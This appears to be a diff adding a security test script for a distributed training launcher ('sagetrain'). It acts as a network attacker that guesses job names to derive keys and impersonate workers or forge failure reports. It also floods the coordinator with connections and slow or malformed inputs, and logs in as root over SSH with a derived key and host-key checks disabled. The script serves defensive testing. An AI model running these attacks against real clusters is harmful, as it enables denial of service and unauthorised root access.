@@ -1,0 +1,194 @@
+"""An outsider on a job's network, run in the image (it uses sagetrain's own code, as an attacker who read
+it would). It knows the job's configuration files (a copy at --tree), and prints what it achieved as one
+line: ``ATTACK {json}``.
+
+- ``guess``: for each job name in --names (its dictionary; the job's description gives the rest), derive
+  the hosts' keys as the image does without a secret and, one connection per guess, try to join as a
+  worker and to report rank 0 failed as the master's host. Records the master's answer to each try:
+  ``welcome`` (joined), ``ack`` (report taken), ``wrong`` (the master answered the handshake: that guess
+  was tested and was wrong), ``unheard`` (closed before the handshake: turned away).
+- ``flood``: hold --connections connections to the master's coordinator for --seconds, opening a new one
+  for each the master closes; meanwhile a client that sends one byte every 4 s, a line of deeply nested
+  JSON and a line longer than a handshake's. Records how long each of those kept its connection.
+- ``ssh``: log in to --ssh-host as root with a client key derived from the job's description (what the
+  image once did for the SageMaker SDK's MPI driver), and fetch its host key.
+"""
+
+from __future__ import annotations
+
+import argparse
+import hashlib
+import hmac
+import json
+import resource
+import select
+import socket
+import subprocess
+import threading
+import time
+from pathlib import Path
+
+from sagetrain.config.job import load_job_config
+from sagetrain.config.job_secret import JobSecret
+from sagetrain.deadline import Deadline
+from sagetrain.launch.coordinator import open_authenticated
+from sagetrain.launch.handshake import HandshakeFailed
+from sagetrain.launch.membership import Membership
+from sagetrain.launch.messages import Ack, Hello, RankFailed, Welcome
+from sagetrain.report.verdict import RankFailure
+
+IMPOSTOR_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIImpostorKeyImpostorKeyImpostorKeyImpostorKeyI impostor"
+
+
+def membership(tree: Path, job_name: str) -> Membership:
+    config = load_job_config(tree, check_channels=False)
+    return Membership.of_job(config, {"TRAINING_JOB_NAME": job_name}, JobSecret())
+
+
+def attempt(master: str, port: int, host: str, key: bytes, first: Hello | RankFailed) -> str:
+    try:
+        with socket.create_connection((master, port), timeout=15) as sock:
+            connection = open_authenticated(sock, host, key, first, Deadline(15, "the master"))
+            answer = connection.receive(Deadline(15, "the master's answer"))
+    except HandshakeFailed:
+        return "wrong"
+    except OSError:
+        return "unheard"
+    if isinstance(answer, Welcome):
+        return "welcome"
+    return "ack" if isinstance(answer, Ack) else "closed"
+
+
+def guess(args: argparse.Namespace) -> dict:
+    started = time.monotonic()
+    outcomes: dict[str, list[str]] = {"join": [], "report": []}
+    hosts = tuple(args.hosts.split(","))
+    for name in args.names.split(","):
+        keys = membership(args.tree, name)
+        hello = Hello(job_hosts=hosts, ssh_host_key=IMPOSTOR_KEY)
+        outcomes["join"].append(attempt(args.master, args.port, args.host, keys.host_key(args.host), hello))
+        failure = RankFailure(
+            0, args.master, 0, "train.py", "cancelled by the admin, see http://example.invalid"
+        )
+        report = attempt(args.master, args.port, args.master, keys.host_key(args.master), RankFailed(failure))
+        outcomes["report"].append(report)
+    return {**outcomes, "seconds": time.monotonic() - started}
+
+
+def held_for(sock: socket.socket, sending: bytes, every: float, limit: float) -> float:
+    """Send ``sending`` a byte at a time, ``every`` seconds apart; seconds until the master closed."""
+    started = time.monotonic()
+    for byte in sending:
+        try:
+            sock.sendall(bytes([byte]))
+        except OSError:
+            break
+        readable, _, _ = select.select([sock], [], [], every)
+        if readable and not sock.recv(4096):
+            break
+        if time.monotonic() - started > limit:
+            break
+    return time.monotonic() - started
+
+
+def closed_after(sock: socket.socket, line: bytes, limit: float) -> float:
+    started = time.monotonic()
+    try:
+        sock.sendall(line)
+        sock.settimeout(limit)
+        while sock.recv(4096):
+            pass
+    except OSError:
+        pass
+    return time.monotonic() - started
+
+
+def flood(args: argparse.Namespace) -> dict:
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    address = (args.master, args.port)
+    results: dict[str, float] = {}
+
+    def probe(name: str, run) -> None:  # type: ignore[no-untyped-def]
+        with socket.create_connection(address, timeout=20) as sock:
+            results[name] = run(sock)
+
+    slow = b'{"type": "pake_start", "host": "algo-2", "pake": "QUJDRA=="}\n'
+    probes = [
+        threading.Thread(target=probe, args=("slow", lambda s: held_for(s, slow, 4.0, 120.0))),
+        threading.Thread(target=probe, args=("deep", lambda s: closed_after(s, b"[" * 1000 + b"\n", 60.0))),
+        threading.Thread(target=probe, args=("long", lambda s: closed_after(s, b"x" * 100_000, 60.0))),
+    ]
+    for thread in probes:
+        thread.start()
+    held: list[socket.socket] = []
+    opened = 0
+    deadline = time.monotonic() + args.seconds
+    while time.monotonic() < deadline:
+        while len(held) < args.connections:
+            try:
+                held.append(socket.create_connection(address, timeout=5))
+                opened += 1
+            except OSError:
+                break
+        readable, _, _ = select.select(held, [], [], 1.0)
+        for sock in readable:  # closed by the master: open another
+            held.remove(sock)
+            sock.close()
+    peak = len(held)
+    for sock in held:
+        sock.close()
+    for thread in probes:
+        thread.join(130)
+    return {"opened": opened, "held_at_end": peak, **results}
+
+
+def derived_key_login(args: argparse.Namespace) -> dict:
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+    keys = membership(args.tree, args.names.split(",")[0])
+    seed = hmac.new(keys.job_key, b"sagetrain sdk ssh client key v1", hashlib.sha256).digest()
+    private = Ed25519PrivateKey.from_private_bytes(seed).private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
+    )
+    identity = Path("/tmp/derived_id")
+    identity.write_bytes(private)
+    identity.chmod(0o600)
+    options = ["-o", "BatchMode=yes", "-o", "ConnectTimeout=10", "-o", "StrictHostKeyChecking=no"]
+    options += ["-o", "UserKnownHostsFile=/dev/null", "-i", str(identity)]
+    login = subprocess.run(
+        ["ssh", *options, f"root@{args.ssh_host}", "echo", "logged-in"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    scan = subprocess.run(
+        ["ssh-keyscan", "-t", "ed25519", args.ssh_host], capture_output=True, text=True, timeout=60
+    )
+    return {
+        "login_exit": login.returncode,
+        "login_output": login.stdout + login.stderr,
+        "host_key": " ".join(scan.stdout.split()[1:3]),
+    }
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("mode", choices=("guess", "flood", "ssh"))
+    parser.add_argument("--tree", type=Path, default=Path("/attacker/ml"))
+    parser.add_argument("--names", default="")
+    parser.add_argument("--hosts", default="algo-1,algo-2")
+    parser.add_argument("--master", default="algo-1")
+    parser.add_argument("--host", default="algo-2")
+    parser.add_argument("--port", type=int, default=7077)
+    parser.add_argument("--connections", type=int, default=1100)
+    parser.add_argument("--seconds", type=float, default=60.0)
+    parser.add_argument("--ssh-host", default="algo-2")
+    args = parser.parse_args()
+    action = {"guess": guess, "flood": flood, "ssh": derived_key_login}[args.mode]
+    print("ATTACK " + json.dumps(action(args)), flush=True)
+
+
+if __name__ == "__main__":
+    main()
